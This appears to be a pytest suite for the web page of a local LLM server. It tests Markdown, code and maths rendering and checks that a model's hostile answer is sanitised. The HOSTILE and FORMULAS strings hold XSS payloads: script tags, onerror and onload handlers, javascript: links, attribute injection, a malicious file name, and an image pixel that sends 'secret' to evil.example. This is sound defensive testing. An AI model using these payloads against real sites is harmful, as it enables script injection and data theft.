"""Answers as Markdown on the page of ``localspec serve``, in a real Chromium. A grammar makes a tiny model say them."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

import pytest

import localspec.server
from localspec import LLM, SamplingParams
from tests.conftest import TinyFiles
from tests.support.serving import Server, serve
from tests.support.tabs import Tabs, expect

LOAD: dict[str, Any] = {"n_ctx": 4096}

ANSWER = """\
# Title

It *says* **what** `f(x_1)` is, see https://localspec.example/a_b_c and main.py.

```python
def f(x):  # <b>
    return "one" * 2
```

| name | n |
|:-----|--:|
| `a`  | 1 |

1. one
2. two

> A quote.

The root is \\(a_1 * b_2 * c\\), or

$$
x_1 = \\frac{a}{b}
- 1
$$

from $5 to $10.
"""

HOSTILE = """\
<script>window.hacked = 1</script> <img src=x onerror='window.hacked = 2'> <svg onload='window.hacked = 3'>

[click](javascript:window.hacked=4) [or](data:text/html,x) [here](vbscript:x) [there](/v1/models) [web](https://evil.example/?q=1)

![secret](https://evil.example/pixel.png?q=secret) ![](http://127.0.0.1:1/x) ![ref][r]

[r]: https://evil.example/ref.png "t' onmouseover='window.hacked=5"

<a href="https://evil.example" onclick="window.hacked = 6">x</a> <style>body{display:none}</style>

```html"><img/src/onerror=window.hacked=7
<img src=x onerror=window.hacked=8></code></pre><script>window.hacked = 9</script>
```

<https://evil.example/auto> <javascript:window.hacked=10>

| <img src=x onerror=window.hacked=11> |
|---|
| <iframe src=https://evil.example> |

\\(<img src=x onerror=window.hacked=12>\\)
"""


def saying(llm: LLM, text: str) -> AbstractContextManager[Server]:
    """A server whose model says this, whatever it is asked."""
    return serve(llm, params=SamplingParams(grammar=f"root ::= {json.dumps(text)}"))


@pytest.fixture(scope="module")
def answering(llm: LLM) -> Iterator[Server]:
    with saying(llm, ANSWER) as running:
        yield running


def test_markdown_is_read_as_it_is_meant(tab: Tabs, answering: Server) -> None:
    it = tab(answering.url)
    assert it.ask("say it") == ANSWER  # the view of tokens has the text as it was said
    part = it.page.locator(".turn .reading")
    assert part.locator("h3").text_content() == "Title"
    assert part.locator("em, strong, p > code:not(.maths)").all_text_contents() == ["says", "what", "f(x_1)"]
    links = part.locator("a")
    assert [link.get_attribute("href") for link in links.all()] == ["https://localspec.example/a_b_c"]
    assert links.first.get_attribute("rel") == "noopener noreferrer nofollow"
    code = part.locator(".code code")
    assert code.text_content() == 'def f(x):  # <b>\n    return "one" * 2'
    assert code.locator(".hl-keyword").all_text_contents() == ["def", "return"]
    assert code.locator(".hl-comment").text_content() == "# <b>"
    assert code.locator(".hl-string").text_content() == '"one"'
    colour = "(code) => getComputedStyle(code.querySelector('.hl-keyword')).color !== getComputedStyle(code).color"
    assert code.evaluate(colour)
    assert part.locator("th, td").all_text_contents() == ["name", "n", "a", "1"]
    assert part.locator("td").last.evaluate("(cell) => getComputedStyle(cell).textAlign") == "right"
    assert part.locator("ol > li").all_text_contents() == ["one", "two"]
    assert part.locator("span.maths").evaluate_all("found => found.map((one) => one.title)") == [
        "a_1 * b_2 * c", "x_1 = \\frac{a}{b}\n- 1",
    ]  # fmt: skip
    assert part.locator("span.maths math msub").count() == 3
    assert part.locator("div.maths math mfrac").count() == 1
    assert part.locator("p").last.text_content() == "from $5 to $10."


def test_a_hostile_answer_gets_nowhere(tab: Tabs, tiny: TinyFiles, tmp_path: Path) -> None:
    """Of a model file with a bad name, to somebody who asks badly."""
    path, question = tmp_path / "<img src=x onerror=window.hacked=0>.gguf", HOSTILE.splitlines()[0]
    shutil.copy(tiny.quick.target, path)
    with LLM(path, "ngram", backend="reference", n_ctx=4096) as llm, saying(llm, HOSTILE) as server:
        it = tab(server.url)  # which also sees that nothing else was asked for, and that no script of it ran
        expect(it.page.locator("#engine")).to_contain_text("<img src=x")
        assert it.ask(question) == HOSTILE
        expect(it.page.locator(".question")).to_contain_text(question)
        for element in it.page.locator(".reading *:not(math *)").all():
            names = element.evaluate("(it) => it.getAttributeNames()")
            assert not [name for name in names if name.startswith("on") or name in ("src", "srcset", "style")], names
        tags = set(it.run("() => [...document.querySelectorAll('.reading *')].map((it) => it.tagName)"))
        known = "A BUTTON CODE DIV P PRE SPAN TABLE TBODY TD TH THEAD TR math mi mo mn mrow mspace mstyle mtext"
        assert tags <= set(known.split())
        links = "() => [...document.querySelectorAll('.reading a')].map((a) => [a.href, a.title, a.target, a.rel])"
        for href, title, target, rel in it.run(links):
            assert href.split("/")[2] in ("evil.example", "127.0.0.1:1")
            assert href == title  # where it leads can be read
            assert (target, rel) == ("_blank", "noopener noreferrer nofollow")
        text = it.page.locator(".reading").text_content()
        for said in ("[click](javascript:window.hacked=4)", "<script>window.hacked = 1</script>", "image: secret"):
            assert said in text
        it.page.locator(".reading .no-link", has_text="there").click()
        it.page.reload()  # and again as it is read from the disk
        it.until("() => document.querySelectorAll('.reading a').length")
        it.page.click("#race-tab")
        it.page.fill("#race-prompt", question)
        it.page.click("#start")
        it.page.wait_for_selector("#again:enabled")
        expect(it.page.locator("#plain-racer .text")).to_contain_text(question)
        expect(it.page.locator(":is(.turn, #engine, .racer) :is(img, script, iframe, style)")).to_have_count(0)


STEADY = """async (text) => {
    const {ReadingText} = await import("/page/reading.js");
    const kinds = (box) => [...box.children].map((it) => it.tagName + it.className);
    const box = document.createElement("div"), whole = document.createElement("div");
    const reading = new ReadingText(box), changes = [];
    let nodes = [];
    for (let n = 1; n <= text.length; n++) {
        reading.set(text.slice(0, n), false);
        const now = [...box.children];
        nodes.forEach((node, i) => { if (now[i] !== node) changes.push([n, node.outerHTML]); });
        nodes = now;
        if (/[*`]{2}/.test(box.textContent) && !box.querySelector("pre")) changes.push([n, box.textContent]);
    }
    reading.set(text, true);
    new ReadingText(whole).set(text, true);
    return [changes, box.innerHTML === whole.innerHTML, kinds(box)];
}"""


def test_character_by_character_it_comes_to_the_same(tab: Tabs, llm: LLM) -> None:
    """However a text is cut: what is drawn bit by bit is what is drawn at once, and nothing changes its kind."""
    with saying(llm, "x") as server:
        it = tab(server.url)
        late = "See [one] and\n\n- **bold** and `code`\n- two\n\n> said\n\n[one]: https://a.example\n"
        for text, n_blocks in ((ANSWER, 8), (late, 3), (HOSTILE, 8)):
            changes, same, kinds = it.run(STEADY, text)
            assert same
            assert len(kinds) >= n_blocks, kinds
            if text is not HOSTILE:
                assert changes == []


def test_code_and_answers_can_be_copied(tab: Tabs, answering: Server) -> None:
    it = tab(answering.url)
    it.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    it.ask("say it")
    clipboard = "() => navigator.clipboard.readText()"
    it.page.get_by_role("button", name="Copy the code").focus()
    it.press("Enter")
    it.page.get_by_text("Copied").wait_for()
    assert it.run(clipboard) == 'def f(x):  # <b>\n    return "one" * 2'
    it.click("Copy the answer")
    it.page.locator(".copy-answer", has_text="Copied").wait_for()
    assert it.run(clipboard) == ANSWER


def test_the_libraries_are_as_published() -> None:
    """Digests of the files in npm's archives that vendor/README.md names."""
    folder = Path(localspec.server.__file__).parent / "page" / "vendor"
    digest = hashlib.sha256()
    for path in sorted(path for path in folder.rglob("*.*js") if path.is_file()):
        digest.update(path.relative_to(folder).as_posix().encode() + path.read_bytes())
    assert digest.hexdigest() == "33485c3d74a25807aafa12e88198e6dd3cdc5bdfe08275e2d82c463a3e47cf6e"
    for library in folder.iterdir():
        assert library.is_file() or (library / "LICENSE").is_file()


FORMULAS = """\\
Euler: $e^{i\\pi} + 1 = 0$, and f' of \\(\\mathscr{L}\\): $f'(x)$

$$\\begin{aligned} a &= \\sqrt{\\frac{1}{2}} \\\\ b &= \\sum_{n=0}^{\\infty} x_n \\end{aligned}$$

\\[
\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\color{red}{\\boxed{x}} \\cancel{y} \\overbrace{z}^{n}
\\]

No formula: $\\nosuchcommand{x}$, \\(\\frac{1\\), \\(\\href{javascript:window.hacked=1}{x}\\),
$\\def\\a{\\a\\a}\\a$, \\(\\includegraphics{https://evil.example/x.png}\\)
"""


def test_formulas_are_set_and_what_is_none_stays_as_written(tab: Tabs, llm: LLM) -> None:
    with saying(llm, FORMULAS) as server:
        it = tab(server.url)
        it.ask("say it")
        part = it.page.locator(".reading")
        assert part.locator("math").count() == 5
        assert part.locator("math mtable").count() == 2
        assert part.locator("code.maths").all_text_contents() == [
            "\\nosuchcommand{x}", "\\frac{1", "\\href{javascript:window.hacked=1}{x}", "\\def\\a{\\a\\a}\\a",
            "\\includegraphics{https://evil.example/x.png}",
        ]  # fmt: skip
        height = "found => found.map((one) => one.getBoundingClientRect().height)"
        assert min(part.locator("math").evaluate_all(height)) > 8  # they can be seen
